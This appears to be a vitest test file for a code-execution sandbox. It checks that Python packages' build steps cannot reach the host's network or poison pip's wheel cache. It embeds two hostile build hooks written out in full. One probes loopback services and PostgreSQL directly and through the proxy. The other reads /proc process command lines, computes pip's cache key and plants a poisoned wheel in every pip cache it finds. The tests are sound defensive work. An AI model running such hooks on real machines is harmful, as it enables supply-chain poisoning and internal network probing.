/**
 * The install sandbox against a hostile package (issue 22 items 2 and 3), on each real engine: a
 * requirement's build step is code we did not write, so it must neither reach the host's network
 * (loopback listeners, PostgreSQL) nor leave anything in a cache that a later install of another
 * run would pick up. And a normal install, from a directory or from an HTTP index named by a
 * loopback address, still works.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parseConfig, type Config } from '../../../src/config.ts';
import { FileJobTypeRegistry } from '../../../src/jobtypes/job-type.ts';
import type { EngineName } from '../../../src/runtime/local/engines.ts';
import { createLocalRuntime, type LocalRuntime } from '../../../src/runtime/local/index.ts';
import type { RunSpec } from '../../../src/runtime/runtime.ts';
import { describeEachEngine } from '../../support/engines.ts';
import { buildSdists, buildWheels } from '../../support/wheel.ts';
import { serveWheelIndex, type WheelIndex } from '../../support/wheel-index.ts';

const PG_PORT = 5432;

/** A TCP server on the host's loopback that counts connections (an install must make none). */
async function listen(): Promise<{ port: number; connections: () => number; close: () => Promise<void> }> {
  let n = 0;
  const server = net.createServer((s) => {
    n++;
    s.end('hello\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as net.AddressInfo).port, connections: () => n, close: () => new Promise((r) => server.close(() => r())) };
}

async function reachable(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const s = net.connect({ host: '127.0.0.1', port }, () => {
      s.destroy();
      resolve(true);
    });
    s.on('error', () => resolve(false));
  });
}

/**
 * A build step that tries the host's network: a loopback listener and PostgreSQL directly, then the
 * listener through whatever proxy the environment names; it fails on purpose, so that what it saw
 * comes back in pip's output (the run's dependency error), as the reviewer's package did.
 */
function networkAttack(listenerPort: number): string {
  return String.raw`
import socket, urllib.parse
seen = []
for port in (${listenerPort}, ${PG_PORT}):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(('127.0.0.1', port))
        seen.append('%d=connected' % port)
    except OSError as e:
        seen.append('%d=%s' % (port, type(e).__name__))
    finally:
        s.close()
proxy = os.environ.get('HTTPS_PROXY') or os.environ.get('HTTP_PROXY')
if proxy:
    u = urllib.parse.urlsplit(proxy)
    try:
        s = socket.create_connection((u.hostname, u.port), timeout=5)
        s.sendall(b'CONNECT 127.0.0.1:${listenerPort} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n')
        seen.append('proxy=' + s.recv(64).split(b'\r\n')[0].decode())
        s.close()
    except OSError as e:
        seen.append('proxy=%s' % type(e).__name__)
else:
    seen.append('proxy=none')
raise RuntimeError('ATTACK ' + ' '.join(seen))
`;
}

/**
 * A build step that plants `wheelB64` (a wheel of the victim package) where pip's wheel cache keeps
 * the wheel it builds from the victim's sdist at `victimUrl`, in every pip cache it can find (the
 * `--cache-dir` of any pip process it can see, PIP_CACHE_DIR, ~/.cache/pip). The key is pip's own:
 * sha224 of the link's URL and the interpreter, split 2/2/2/rest.
 */
function cacheAttack(victimUrl: string, wheelName: string, wheelB64: string): string {
  return String.raw`
import base64, glob, hashlib, json, sys
dirs = set()
for f in glob.glob('/proc/[0-9]*/cmdline'):
    try:
        args = open(f, 'rb').read().split(b'\0')
    except OSError:
        continue
    for i, a in enumerate(args):
        if a == b'--cache-dir' and i + 1 < len(args):
            dirs.add(args[i + 1].decode())
        elif a.startswith(b'--cache-dir='):
            dirs.add(a.split(b'=', 1)[1].decode())
if os.environ.get('PIP_CACHE_DIR'):
    dirs.add(os.environ['PIP_CACHE_DIR'])
dirs.add(os.path.expanduser('~/.cache/pip'))
key = json.dumps({'url': ${JSON.stringify(victimUrl)}, 'interpreter_name': 'cp', 'interpreter_version': '%d%d' % sys.version_info[:2]}, sort_keys=True, separators=(',', ':'), ensure_ascii=True)
h = hashlib.sha224(key.encode()).hexdigest()
for d in dirs:
    w = os.path.join(d, 'wheels', h[:2], h[2:4], h[4:6], h[6:])
    try:
        os.makedirs(w, exist_ok=True)
        with open(os.path.join(w, ${JSON.stringify(wheelName)}), 'wb') as f:
            f.write(base64.b64decode(${JSON.stringify(wheelB64)}))
    except OSError:
        pass
`;
}

describeEachEngine('install sandbox on %s', (engine: EngineName) => {
  let index: string;
  let listener: Awaited<ReturnType<typeof listen>>;
  let web: WheelIndex;
  let pgUp = false;
  const runtimes: LocalRuntime[] = [];

  beforeAll(async () => {
    listener = await listen();
    pgUp = await reachable(PG_PORT);
    index = buildWheels([{ name: 'sandpod-testpkg', version: '1.2.3' }]);
    buildSdists([{ name: 'victim-pkg', version: '1.0.0' }], index);
    const poisoned = buildWheels([{ name: 'victim-pkg', version: '1.0.0', modules: { '__init__.py': "VALUE = 'poisoned'\n" } }]);
    const wheelName = 'victim_pkg-1.0.0-py3-none-any.whl';
    const b64 = readFileSync(path.join(poisoned, wheelName)).toString('base64');
    buildSdists(
      [
        { name: 'evil-net', buildHook: networkAttack(listener.port) },
        { name: 'evil-plant', buildHook: cacheAttack(`file://${index}/victim_pkg-1.0.0.tar.gz`, wheelName, b64) },
      ],
      index,
    );
    web = await serveWheelIndex(index);
  });
  afterAll(async () => {
    for (const rt of runtimes) await rt.stop();
    await listener?.close();
    await web?.close();
  });

  async function runtime(pip: Record<string, unknown>): Promise<{ config: Config; rt: LocalRuntime }> {
    const workspace = mkdtempSync(path.join('/tmp/sandpod-test', `ws-install-${engine}-`));
    const config = parseConfig({ workspace, sandbox_engine: engine, warm_pool: { sizes: {} }, pip }, {});
    const rt = createLocalRuntime(config);
    runtimes.push(rt);
    await rt.start();
    return { config, rt };
  }

  function spec(config: Config, code: string, requirements: string[]): RunSpec {
    return {
      executionId: `t-${Math.random().toString(36).slice(2)}`,
      code,
      inputJson: '{}',
      jobType: new FileJobTypeRegistry(config).get('default')!,
      timeoutSec: 20,
      startupTimeoutSec: 120,
      requirements,
      maxStdoutBytes: 32768,
      maxArtifactBytes: 1024 * 1024,
    };
  }

  it("a package's build step reaches neither a loopback listener nor PostgreSQL, directly or through the proxy", async () => {
    // A file:// find-links directory: bound read-only into the sandbox, no network needed.
    const { config, rt } = await runtime({ find_links: [`file://${index}`], no_index: true });
    const r = await rt.run(spec(config, 'print(1)', ['evil-net']));
    const said = r.observation.dependencyError ?? '';
    expect(said, said).toMatch(/ATTACK \d+=\w+ \d+=\w+ proxy=/);
    expect(said).not.toMatch(/=connected/);
    expect(said).toContain(`${listener.port}=`);
    // The only way out is the egress proxy, and it refuses the host's loopback.
    expect(said).toMatch(/proxy=HTTP\/1\.1 403/);
    expect(listener.connections()).toBe(0);
    if (pgUp) expect(said).toMatch(new RegExp(`${PG_PORT}=(ConnectionRefusedError|OSError|TimeoutError|PermissionError|socket\\.timeout)`));
  }, 120_000);

  it('installs from an HTTP index on a loopback address the configuration names, through the proxy only', async () => {
    const { config, rt } = await runtime({ find_links: [`http://127.0.0.1:${web.port}/`], no_index: true });
    const before = web.paths().length;
    const ok = await rt.run(spec(config, 'import sandpod_testpkg\nprint(sandpod_testpkg.VALUE)', ['sandpod-testpkg==1.2.3']));
    expect(ok.observation.dependencyError).toBeNull();
    expect(ok.stdout).toBe('sandpod-testpkg-1.2.3\n');
    expect(web.paths().slice(before)).toContain('/sandpod_testpkg-1.2.3-py3-none-any.whl');
    // The index's own address is open to the install; the listener beside it is not.
    const r = await rt.run(spec(config, 'print(1)', ['evil-net']));
    const said = r.observation.dependencyError ?? '';
    expect(said, said).toMatch(/ATTACK /);
    expect(said).not.toMatch(/=connected/);
    expect(said).toMatch(/proxy=HTTP\/1\.1 403/);
    expect(listener.connections()).toBe(0);
  }, 120_000);

  it("one run's package cannot plant a wheel that a later install of another run gets", async () => {
    const { config, rt } = await runtime({ find_links: [index], no_index: true });
    const evil = await rt.run(spec(config, 'print("evil ran")', ['evil-plant']));
    expect(evil.observation.dependencyError).toBeNull();
    expect(evil.stdout).toBe('evil ran\n');
    const victim = await rt.run(spec(config, 'import victim_pkg\nprint(victim_pkg.VALUE)', ['victim-pkg']));
    expect(victim.observation.dependencyError).toBeNull();
    expect(victim.stdout).toBe('victim-pkg-1.0.0\n');
  }, 120_000);
});
